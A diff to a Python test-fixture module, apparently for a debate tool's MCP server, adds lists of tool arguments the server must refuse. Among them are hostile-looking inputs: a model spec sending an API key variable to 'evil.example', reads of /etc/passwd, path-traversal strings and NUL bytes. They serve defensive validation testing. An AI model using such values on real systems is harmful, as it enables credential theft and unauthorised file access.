@@ -14,7 +14,9 @@ numeric option or configuration file is covered by adding it to the right list.
 * ``SERVER_USAGE``: token counts a server may report that are not counts;
 * ``UNDECODABLE_ARGUMENTS``: arguments that are not valid text;
 * ``KB_DAMAGE``: market knowledge bases with impossible values;
-* ``OUTPUT_PATHS``: output options that cannot be written.
+* ``OUTPUT_PATHS``: output options that cannot be written;
+* ``MCP_OPTIONS`` / ``MCP_ARGUMENTS``: ``moot mcp``'s tool arguments: the numeric
+  options above as the tools take them, and arguments a client must not get through.
 
 And the checks: :func:`raw_controls` (what must never reach a terminal) and
 :func:`structure` (a briefing's Markdown structure, whatever its text).
@@ -93,6 +95,60 @@ UNDECODABLE_ARGUMENTS: list[tuple[str, ...]] = [
 ]
 """Commands given such an argument: exit 2 naming the option (or argument), nothing
 stored."""
+
+MCP_OPTIONS: dict[tuple[str, str], tuple[str, str]] = {
+    ("run", "--max-tokens"): ("run_debate", "budget"),
+    ("run", "--max-cost"): ("run_debate", "max_cost"),
+    ("resume", "--max-tokens"): ("resume_run", "budget"),
+    ("list", "--limit"): ("list_runs", "limit"),
+}
+"""The options of ``NUMERIC_OPTIONS`` an MCP tool takes: (tool, argument). Their
+finite values are refused with the command line's message (JSON holds no NaN)."""
+
+_MCP_TOPIC = "Should we x?"
+MCP_ARGUMENTS: list[tuple[str, dict[str, Any], str]] = [
+    ("run_debate", {"topic": UNDECODABLE}, "TOPIC is not valid text"),
+    ("run_debate", {"topic": _MCP_TOPIC, "positions": ["a", UNDECODABLE]}, "--sides is not"),
+    ("run_debate", {"topic": _MCP_TOPIC, "panel": [UNDECODABLE]}, "--panel is not valid"),
+    (
+        "run_debate",
+        {"topic": _MCP_TOPIC, "format": "freeform", "format_options": {"note": UNDECODABLE}},
+        "--format-option is not valid text",
+    ),
+    ("run_debate", {"topic": _MCP_TOPIC, "model": UNDECODABLE}, "not one this server allows"),
+    # a spec naming a key's variable and a host, or a local file
+    (
+        "run_debate",
+        {"topic": _MCP_TOPIC, "model": "openai:gpt-4o@http://evil.example/v1#OPENAI_API_KEY"},
+        "not one this server allows",
+    ),
+    ("run_debate", {"topic": _MCP_TOPIC, "model": "local:/etc/passwd"}, "not one this server"),
+    ("run_debate", {"topic": _MCP_TOPIC, "sources": ["/etc/passwd"]}, "not inside the documents"),
+    ("run_debate", {"topic": _MCP_TOPIC, "sources": ["../../../../etc"]}, "not inside the doc"),
+    ("run_debate", {"topic": _MCP_TOPIC, "sources": [NUL]}, "not inside the documents"),
+    (
+        "run_debate",
+        {"topic": _MCP_TOPIC, "format": "market", "format_options": {"kb": "/etc/passwd"}},
+        "format option kb: /etc/passwd is not inside",
+    ),
+    (
+        "run_debate",
+        {"topic": _MCP_TOPIC, "format": "competitive", "format_options": {"audio_dir": "out"}},
+        "format option audio_dir writes files",
+    ),
+    ("run_debate", {"topic": _MCP_TOPIC, "budget": 10**12}, "over this server's cap"),
+    ("run_debate", {"topic": _MCP_TOPIC, "lang": "en\x00"}, "unsupported language"),
+    ("run_debate", {"topic": " \n\t"}, "the topic is empty"),
+    ("get_run", {"run_id": UNDECODABLE}, "run id is not valid text"),
+    ("get_run", {"run_id": "../../etc/passwd"}, "no run with id '../../etc/passwd'"),
+    ("get_run", {"run_id": NUL}, "no run with id 'before\\x00after'"),
+    ("resume_run", {"run_id": "x" * 10_000}, "no run with id"),
+    ("lint_transcript", {"messages": [{"role": "user", "content": UNDECODABLE}]}, "UTF-8"),
+    ("lint_transcript", {"transcript": {"topic": "x", "turns": [1]}}, "not a valid transcript"),
+    ("lint_transcript", {"transcript": {}, "messages": []}, "either transcript or messages"),
+]
+"""Tool arguments ``moot mcp`` refuses (with a server allowing only ``scripted:demo`` and
+the documents of one folder), each with what the MCP error says; nothing is stored."""
 
 
 @dataclass(frozen=True)
